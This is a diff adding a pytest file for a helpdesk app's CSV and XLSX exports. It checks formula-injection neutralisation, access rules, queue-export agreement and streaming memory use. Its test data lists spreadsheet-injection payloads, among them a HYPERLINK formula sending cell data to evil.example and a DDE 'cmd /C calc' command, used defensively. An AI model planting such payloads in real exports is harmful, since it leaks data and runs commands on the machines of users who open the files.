@@ -1,0 +1,137 @@
+"""Exports of queues and search results: what a spreadsheet makes of them, who may download
+them, and that they stream (memory does not grow with the number of rows)."""
+
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import io
+import re
+import tracemalloc
+from typing import Any
+
+import pytest
+from openpyxl import load_workbook
+
+from helpdesk import exports, queues
+from helpdesk.models import Incident
+
+DANGEROUS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+1+cmd|' /C calc'!A0",
+             "-2+3", "@SUM(1,1)", "\tindented=1", "\r=1+1"]
+
+
+def csv_rows(response: Any) -> list[list[str]]:
+    text = response.get_data(as_text=True).removeprefix("\ufeff")
+    return list(csv.reader(io.StringIO(text)))
+
+
+def queue_page_ids(client: Any, url: str) -> list[int]:
+    """Every incident a queue page lists, following its Next links."""
+    found: list[int] = []
+    while url:
+        body = client.get(url).get_data(as_text=True)
+        section = body[body.index('id="queue-list"'):]
+        found += [int(n) for n in re.findall(r'href="/incidents/(\d+)"', section)]
+        following = re.search(r'<a href="([^"]+)" rel="next">', section)
+        url = following.group(1).replace("&amp;", "&") if following else None
+    return found
+
+
+@pytest.fixture
+def settings_overrides() -> dict[str, Any]:
+    return {"page_size": 3}
+
+
+def test_formula_cells_are_neutralised_in_csv_and_xlsx(app, personas, log_incident, login,
+                                                        contact_factory):
+    for text in DANGEROUS:
+        log_incident(title=f"{text.strip() or 'x'} mail", description="",
+                     requester=contact_factory(name=text))
+    client = login(personas.owner)
+    response = client.get("/queues/open/export?format=csv")
+    assert response.status_code == 200 and response.mimetype == "text/csv"
+    assert response.headers["Content-Disposition"].startswith('attachment; filename="queue-open-')
+    rows = csv_rows(response)
+    requesters = {row[9] for row in rows[1:]}
+    assert requesters == {"'" + text for text in DANGEROUS}
+    for row in rows[1:]:
+        for cell in row:
+            assert not cell.startswith(exports.FORMULA_START), cell
+
+    response = client.get("/queues/open/export?format=xlsx")
+    assert response.status_code == 200
+    sheet = load_workbook(io.BytesIO(response.get_data())).active
+    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
+    # (XML reads a carriage return back as a line feed)
+    assert {c.value for c in cells if c.column == 10} == {"'" + t.replace("\r", "\n") for t in DANGEROUS}
+    assert all(c.data_type != "f" for c in cells)  # no cell is a formula
+
+    response = client.get("/search/export?q=mail&format=csv")
+    assert {row[9] for row in csv_rows(response)[1:]} == {"'" + text for text in DANGEROUS}
+
+
+def test_safe_values_are_kept_exactly():
+    assert exports.neutralise("Payroll slow") == "Payroll slow"
+    assert exports.neutralise("a=b") == "a=b"
+    assert exports.neutralise(42) == 42
+    assert exports.neutralise("-") == "'-"
+
+
+@pytest.mark.parametrize("queue", ["owned", "assigned", "teams", "open"])
+def test_a_queue_export_holds_exactly_what_the_agent_sees_on_the_queue(app, personas, log_incident,
+                                                                        login, queue):
+    for n in range(4):
+        log_incident(title=f"John's {n}")
+    for n in range(3):
+        log_incident(title=f"Sara's {n}", actor=personas.colleague,
+                     assigned_team=personas.database_team, assigned_agent=personas.assignee)
+    log_incident(title="Kofi's", actor=personas.other)
+    for agent in (personas.owner, personas.assignee, personas.other):
+        client = login(agent)
+        url = f"/queues/{queue}?priority=3&sort=oldest"
+        exported = [int(row[0].removeprefix("INC-"))
+                    for row in csv_rows(client.get(f"/queues/{queue}/export?priority=3&sort=oldest"))[1:]]
+        assert exported == queue_page_ids(client, url)
+    # The queues differ by agent, so the comparison above is not between empty lists.
+    mine = csv_rows(login(personas.owner).get("/queues/owned/export"))
+    assert len(mine) - 1 == 4
+
+
+def test_exports_refuse_what_the_page_refuses(app, personas, login):
+    client = login(personas.owner)
+    assert client.get("/queues/nope/export").status_code == 404
+    assert client.get("/queues/open/export?status=exploded").status_code == 400
+    assert client.get("/queues/open/export?format=pdf").status_code == 400
+    assert client.get("/search/export?q=").status_code == 400
+    anonymous = login(None)
+    response = anonymous.get("/queues/open/export")
+    assert response.status_code == 302 and "/login" in response.headers["Location"]
+
+
+def _bulk_incidents(personas: Any, count: int) -> None:
+    stamp = dt.datetime(2026, 1, 1)
+    rows = [{"title": f"Bulk {n}", "owner_team": personas.service_desk.id, "status": "new",
+             "created_at": stamp, "updated_at": stamp + dt.timedelta(seconds=n)} for n in range(count)]
+    for start in range(0, count, 500):
+        Incident.insert_many(rows[start:start + 500]).execute()
+
+
+def _peak_bytes(personas: Any, fmt: str) -> tuple[int, int]:
+    incidents = exports.queue_incidents("open", personas.owner, queues.Filters(), batch=100)
+    chunks = exports.csv_chunks(incidents) if fmt == "csv" else exports.xlsx_chunks(incidents)
+    tracemalloc.start()
+    size = sum(len(chunk) for chunk in chunks)
+    peak = tracemalloc.get_traced_memory()[1]
+    tracemalloc.stop()
+    return peak, size
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_exports_stream_in_constant_memory(app, personas, fmt):
+    with app.app_context():
+        _bulk_incidents(personas, 600)
+        small_peak, small_size = _peak_bytes(personas, fmt)
+        _bulk_incidents(personas, 3000)
+        large_peak, large_size = _peak_bytes(personas, fmt)
+    assert large_size > 4 * small_size  # five times the rows ...
+    assert large_peak < 1.5 * small_peak  # ... in about the same memory
